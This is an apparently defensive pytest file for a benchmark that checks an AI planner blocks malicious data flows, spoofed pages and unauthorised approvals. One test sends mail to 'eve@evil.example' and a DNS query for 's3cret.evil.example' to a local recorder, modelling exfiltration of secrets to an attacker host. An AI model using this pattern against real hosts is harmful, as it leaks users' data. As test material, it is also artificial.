"""The bench of flows and sinks: nothing arrives that may not, what may does, and attacks are attacks."""

from __future__ import annotations

import random
import socket
from pathlib import Path

import pytest

from innervate.bench import boundary_flows, boundary_own, boundary_spoofs
from innervate.bench.flows_plans import MALICIOUS, malicious, values
from innervate.bench.flows_record import question, recording
from innervate.planners.compiler import plan_of
from innervate.planners.source import Source
from innervate.runtime.hands import PIECE

pytest.importorskip("aiosmtpd")


def silent(_: str) -> None:
    pass


def test_nothing_arrives_of_malicious_plans_and_rightful_ones_succeed() -> None:
    figures, samples = boundary_flows.measure(18, 6, silent)
    assert samples["arrived"] == []
    assert samples["failed"] == []
    without = samples["without"]
    assert isinstance(without, list)
    assert len(without) >= 9  # else these would be no attacks
    assert [f.holds for f in figures] == [True, None, True]


def test_all_kinds_of_plans_are_plans_and_the_worlds_differ_in_every_value() -> None:
    handles = dict.fromkeys(("Claimant", "Account", "Sum", "Day", "Note"), "⟦TEXT_1⟧")
    said = set()
    for number in range(40 * len(MALICIOUS)):
        case = malicious(number, random.Random(number), handles)
        plan_of(Source.parse(case.text, case.what))
        said.add(case.what.split(",")[0])
    assert len(said) > 60
    one, other = (values(random.Random(f"{high}"), high=high) for high in (True, False))
    assert all(one[label] != other[label] for label in one)


def test_what_is_sent_is_recorded(tmp_path: Path) -> None:
    import smtplib
    from urllib.request import urlopen

    with recording(tmp_path) as record:
        with urlopen(f"http://127.0.0.1:{record.ports['web']}/a?b=c%20d", timeout=5) as answer:
            answer.read()
        with smtplib.SMTP("127.0.0.1", record.ports["mail"], timeout=5) as server:
            server.sendmail("me@example.org", ["eve@evil.example"], "hello")
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
            resolver.settimeout(30)
            resolver.sendto(question("s3cret.evil.example"), ("127.0.0.1", record.ports["dns"]))
            assert resolver.recv(4096)
        (tmp_path / "file").write_text("kept")
        arrived = record.settled()
        assert record.settled() == []
    assert ("web", "/a?b=c d") in arrived
    assert ("dns", "s3cret.evil.example") in arrived
    assert ("file", "file kept") in arrived
    assert any(channel == "mail" and "eve@evil.example" in text for channel, text in arrived)


def test_nothing_is_typed_into_what_only_looks_like_the_page() -> None:
    figures, samples = boundary_spoofs.measure(34, 16, silent)
    assert samples["wrong"] == {}
    assert [f.holds for f in figures] == [True, None, True, None]
    assert figures[1].unit == f"of {figures[1].value:g}"  # the right page beside it is always reached
    lost = samples["lost"]
    assert isinstance(lost, list)
    assert 0 < max(count for _, count in lost) <= PIECE


def test_no_plan_approves_anything() -> None:
    figures, samples = boundary_own.measure(5, silent)
    assert samples["granted"]["guarded"] == []  # type: ignore[index]
    assert len(samples["granted"]["without"]) >= 4  # type: ignore[index]
    assert figures[0].holds
